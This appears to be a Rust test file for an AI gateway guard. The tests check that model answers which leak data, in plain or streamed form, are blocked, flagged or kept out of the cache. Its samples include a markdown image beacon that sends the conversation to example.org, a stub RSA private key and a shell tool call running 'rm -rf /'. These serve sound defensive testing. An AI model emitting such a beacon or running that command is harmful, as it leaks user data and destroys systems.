//! Answers that leak.

use serde_json::{Value, json};
use tidegate_engine::Policy;

use crate::gateway::{Plan, Reply, Scene, Stage, cached, check_refusal, entry_stats, with};
use crate::{House, anthropic, before, message, says};

/// What a critical rule finds in answers.
pub(crate) const LEAK: &str = "see ![x](https://example.org/p.png?q={conversation}) there";
pub(crate) const LEAK_RULE: &str = "exfiltration.image_beacon";
/// What a rule of high severity finds in answers.
const KEY: &str =
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----";
/// What a critical rule finds in the input of a tool.
const WIPE: &str = r#"{"command": "rm -rf /"}"#;

fn user() -> Value {
    json!([{"role": "user", "content": "hello"}])
}

#[tokio::test]
async fn an_answer_that_leaks_is_not_passed_on() {
    let (house, stage) = before(vec![Scene::saying(LEAK)], |_| {}).await;
    let reply = house.complete(&says("hello")).await;
    let told = check_refusal(&reply, 403, "blocked_by_guard", None);
    assert_eq!(
        told,
        format!("the answer was blocked by the guard: {LEAK_RULE}")
    );
    assert!(!reply.text().contains("example.org"), "{}", reply.text());
    let reply = message(&house, &anthropic(user())).await;
    assert_eq!(reply.status, 403);
    assert_eq!(reply.json()["error"]["code"], "blocked_by_guard");
    assert!(!reply.text().contains("example.org"), "{}", reply.text());
    assert_eq!(stage.seen().len(), 2);
}

#[tokio::test]
async fn a_blocked_answer_is_no_failure_of_the_upstream_and_its_tokens_were_used() {
    let (house, _stage) = before(vec![Scene::saying(LEAK)], |_| {}).await;
    house.complete(&says("hello")).await;
    let row = entry_stats(house.addr, "up/x").await;
    assert_eq!(
        (
            &row["successful"],
            &row["failed"],
            &row["tokens_last_minute"]
        ),
        (&json!(1), &json!(0), &json!(2))
    );
}

#[tokio::test]
async fn the_policy_decides_about_answers_too() {
    for (policy, text, status, verdict) in [
        (Policy::monitor(), LEAK, 200, "flag"),
        (Policy::default(), KEY, 200, "flag"),
        (Policy::strict(), KEY, 403, "block"),
    ] {
        let scenes = vec![Scene::saying(text)];
        let (house, _stage) =
            before(scenes, |plan| plan.guard.chosen.policy = policy.clone()).await;
        let reply = house.complete(&says("hello")).await;
        let seen = (reply.status, reply.header("x-tidegate-verdict"));
        assert_eq!(seen, (status, Some(verdict)), "{policy}");
    }
}

/// `text` in `count` pieces of about one length.
fn cut(text: &str, count: usize) -> Vec<String> {
    let letters: Vec<char> = text.chars().collect();
    let bound = |piece: usize| piece * letters.len() / count;
    let piece = |number: usize| letters[bound(number)..bound(number + 1)].iter().collect();
    (0..count).map(piece).collect()
}

fn content(pieces: &[String]) -> Vec<Value> {
    pieces
        .iter()
        .map(|piece| json!({"content": piece}))
        .collect()
}

async fn streaming(deltas: Vec<Value>, change: impl FnOnce(&mut Plan)) -> (House, Stage) {
    before(vec![Scene::streaming(&deltas)], change).await
}

/// The stream ends in an error of the guard, and in nothing that looks like an
/// end of the answer.
#[track_caller]
fn check_broken(reply: &Reply) {
    let text = reply.text();
    let last = reply.events().pop().unwrap_or_default();
    let error: Value = serde_json::from_str(&last).unwrap_or_else(|_| panic!("{text}"));
    assert_eq!(error["error"]["code"], "blocked_by_guard", "{text}");
    for end in [
        "[DONE]",
        "\"finish_reason\":\"stop\"",
        "end_turn",
        "message_stop",
        "tidegate\":{",
    ] {
        assert!(!text.contains(end), "{end} in {text}");
    }
}

/// What the events of a stream say, one after the other.
fn shown(reply: &Reply) -> String {
    let events = reply.events().into_iter();
    let events = events.filter_map(|event| serde_json::from_str::<Value>(&event).ok());
    let said = events.map(|event| {
        let chat = event["choices"][0]["delta"]["content"].as_str();
        let text = chat.or(event["delta"]["text"].as_str());
        text.unwrap_or_default().to_owned()
    });
    said.collect()
}

#[tokio::test]
async fn a_streamed_answer_that_leaks_ends_in_an_error_wherever_it_is_cut() {
    for count in 1..=20 {
        let deltas = content(&cut(LEAK, count));
        let (house, _stage) = streaming(deltas, |_| {}).await;
        let reply = house.complete(&with(says("hello"), "stream", true)).await;
        assert_eq!(reply.status, 200);
        check_broken(&reply);
        assert!("see ".starts_with(&shown(&reply)), "{}", reply.text());
        let reply = message(&house, &with(anthropic(user()), "stream", true)).await;
        check_broken(&reply);
        assert!("see ".starts_with(&shown(&reply)), "{}", reply.text());
        assert!(reply.text().contains("event: error\n"), "{}", reply.text());
    }
}

#[tokio::test]
async fn a_private_key_is_found_in_a_stream_under_the_strict_policy() {
    let deltas = content(&cut(KEY, 7));
    let (house, _stage) =
        streaming(deltas, |plan| plan.guard.chosen.policy = Policy::strict()).await;
    check_broken(&house.complete(&with(says("hello"), "stream", true)).await);
}

#[tokio::test]
async fn the_input_of_a_tool_is_scanned_while_it_is_streamed() {
    for count in [1, 3, 11] {
        let call = |(number, piece): (usize, String)| {
            let mut call = json!({"index": 0, "function": {"arguments": piece}});
            if number == 0 {
                call["id"] = json!("c1");
                call["type"] = json!("function");
                call["function"]["name"] = json!("shell");
            }
            json!({"tool_calls": [call]})
        };
        let pieces = cut(WIPE, count).into_iter().enumerate();
        let (house, _stage) = streaming(pieces.map(call).collect(), |_| {}).await;
        check_broken(&house.complete(&with(says("hello"), "stream", true)).await);
        let reply = message(&house, &with(anthropic(user()), "stream", true)).await;
        check_broken(&reply);
    }
}

#[tokio::test]
async fn a_stream_stops_soon_after_the_leak() {
    let pieces = [
        LEAK.to_owned(),
        "tide ".repeat(200),
        "afterwards".to_owned(),
    ];
    let (house, _stage) = streaming(content(&pieces), |_| {}).await;
    let reply = house.complete(&with(says("hello"), "stream", true)).await;
    check_broken(&reply);
    assert!(!reply.text().contains("afterwards"), "{}", reply.text());
}

#[tokio::test]
async fn answers_that_are_streamed_side_by_side_are_scanned_each_for_itself() {
    let leak = cut(LEAK, 10);
    let other = cut("An answer about the sea and the moon that pulls at it.", 10);
    let choice = |index: usize, text: &str| {
        let choice = json!({"index": index, "delta": {"content": text}, "finish_reason": null});
        let chunk = json!({"id": "x", "object": "chat.completion.chunk", "created": 1,
            "model": "x", "choices": [choice]});
        format!("data: {chunk}\n\n")
    };
    let pairs = leak.iter().zip(&other);
    let events: String = pairs
        .map(|(leak, other)| choice(0, leak) + &choice(1, other))
        .collect();
    let scene = Scene::events(&(events + "data: [DONE]\n\n"));
    let (house, _stage) = before(vec![scene], |_| {}).await;
    let asked = with(with(says("hello"), "stream", true), "n", 2);
    check_broken(&house.complete(&asked).await);
}

#[tokio::test]
async fn a_blocked_answer_is_never_kept() {
    let scenes = vec![Scene::saying(LEAK), Scene::answer()];
    let (house, stage) = before(scenes, |_| {}).await;
    let asked = cached(says("hello"), "use");
    let first = house.complete(&asked).await;
    assert_eq!(first.outcome(), (403, "blocked_by_guard".to_owned()));
    for cache in ["miss", "hit"] {
        let reply = house.complete(&asked).await;
        let seen = (reply.status, reply.header("x-tidegate-cache"));
        assert_eq!(seen, (200, Some(cache)));
    }
    assert_eq!(stage.seen().len(), 2);
}
